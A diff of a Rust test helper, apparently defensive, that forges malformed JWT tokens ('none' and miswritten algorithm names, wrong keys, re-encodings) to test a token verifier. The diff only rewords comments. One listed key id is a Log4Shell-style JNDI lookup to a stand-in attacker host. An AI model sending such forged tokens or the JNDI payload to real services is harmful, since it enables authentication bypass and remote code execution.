@@ -1,4 +1,4 @@
-//! Tokens by the hundred, each with one thing wrong, signed with the service's own secret where it is not the signature.
+//! Hundreds of tokens with one thing wrong. They are signed with the service's own secret unless the signature is wrong.
 
 use base64::Engine;
 use base64::prelude::BASE64_URL_SAFE_NO_PAD as BASE64;
@@ -6,14 +6,14 @@ use hmac::{Hmac, KeyInit, Mac};
 use serde_json::{Value, json};
 use sha2::{Sha256, Sha384, Sha512};
 
-/// Every algorithm that has a name, and ways to miswrite the only one that is accepted.
+/// All named algorithms, and wrong spellings of the only one that is accepted.
 const ALGORITHMS: [&str; 29] = [
     "none", "None", "NONE", "nOnE", "", "hs256", "Hs256", "HS256 ", " HS256", "HS256\0", "HS-256", "HS384",
     "HS512", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256", "ES256K", "ES384", "ES512",
     "EdDSA", "Ed25519", "HMAC", "A256KW", "dir", "HS1",
 ];
 
-/// Key names as attackers write them: other tokens' and other keys', paths, addresses, and parts of queries.
+/// Key ids of attackers: those of other tokens and keys, paths, URLs, and parts of queries.
 const KEY_NAMES: [&str; 14] = [
     "",
     "0",
@@ -31,7 +31,7 @@ const KEY_NAMES: [&str; 14] = [
     "${jndi:ldap://attacker.example/a}",
 ];
 
-/// A maker of bad tokens after the pattern of a good one.
+/// Makes bad tokens from a good one.
 #[derive(Clone)]
 pub struct Forge {
     secret: Vec<u8>,
@@ -41,7 +41,7 @@ pub struct Forge {
 }
 
 impl Forge {
-    /// After a token that `secret` has signed.
+    /// Starts from a token that `secret` has signed.
     pub fn after(good: &str, secret: &str) -> Self {
         let part = |n: usize| {
             serde_json::from_slice(&BASE64.decode(good.split('.').nth(n).unwrap()).unwrap()).unwrap()
@@ -59,17 +59,17 @@ impl Forge {
         self.seal(&format!("{}.{}", BASE64.encode(header), BASE64.encode(claims)))
     }
 
-    /// Puts a genuine MAC behind whatever stands for header and claims.
+    /// Appends a genuine MAC to any header and claims.
     fn seal(&self, message: &str) -> String {
         format!("{message}.{}", BASE64.encode(mac::<Hmac<Sha256>>(&self.secret, message)))
     }
 
-    /// The same claims under our own hand: shows that what is refused is not refused for having been forged.
+    /// The same claims, signed by us: shows that refused tokens are not refused for their signature.
     pub fn control(&self) -> String {
         self.sign(&self.header, &self.claims)
     }
 
-    /// Every bad token, with a word on what is wrong with it.
+    /// Every bad token, with its fault in words.
     pub fn all(&self) -> Vec<(String, String)> {
         let mut all = self.headers();
         all.extend(self.all_claims());
@@ -79,7 +79,7 @@ impl Forge {
         all
     }
 
-    /// Tokens that are unusual and good, so that strictness is not mistaken for soundness.
+    /// Unusual good tokens, which must be accepted.
     pub fn unusual(&self) -> Vec<(String, String)> {
         let iat = self.claims["iat"].as_u64().unwrap();
         let mut claims: Vec<_> = [
@@ -191,7 +191,7 @@ impl Forge {
         claims.into_iter().map(|(name, claims)| (name, self.sign(&self.header, &claims))).collect()
     }
 
-    /// Whoever made the MAC, it was not our key by our algorithm over this very text.
+    /// MACs by another key, by another algorithm, or of another text.
     fn keys(&self) -> Vec<(String, String)> {
         let (header, claims) = (&self.header, &self.claims);
         let text = |header: &Value| {
@@ -240,7 +240,7 @@ impl Forge {
         all
     }
 
-    /// Other spellings of the same bytes, which make one token many, and text in other encodings than UTF-8.
+    /// Other spellings of the same bytes, and text in other encodings than UTF-8.
     fn encodings(&self) -> Vec<(String, String)> {
         let (text, _) = self.good.rsplit_once('.').unwrap();
         let dot = text.find('.').unwrap();
